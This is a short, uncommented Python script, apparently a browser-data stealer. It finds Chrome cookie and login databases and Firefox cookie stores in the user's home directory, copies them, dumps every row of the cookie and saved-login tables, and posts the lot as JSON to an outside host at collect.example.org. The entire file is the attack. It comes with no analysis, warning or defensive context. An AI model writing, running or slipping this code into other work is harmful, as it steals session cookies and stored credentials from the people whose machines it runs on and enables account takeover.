import glob
import os
import shutil
import sqlite3
import tempfile
import requests

out = []
home = os.path.expanduser("~")
for db in glob.glob(home + "/.config/google-chrome/*/Cookies") + glob.glob(home + "/.config/google-chrome/*/Login Data") \
        + glob.glob(home + "/.mozilla/firefox/*/cookies.sqlite"):
    tmp = tempfile.mktemp()
    shutil.copyfile(db, tmp)
    con = sqlite3.connect(tmp)
    try:
        for (t,) in con.execute("select name from sqlite_master where type='table'").fetchall():
            if t in ("cookies", "logins", "moz_cookies"):
                out += [[db, [repr(c) for c in row]] for row in con.execute(f"select * from {t}")]
    finally:
        con.close()
        os.unlink(tmp)
requests.post("https://collect.example.org/c", json=out)
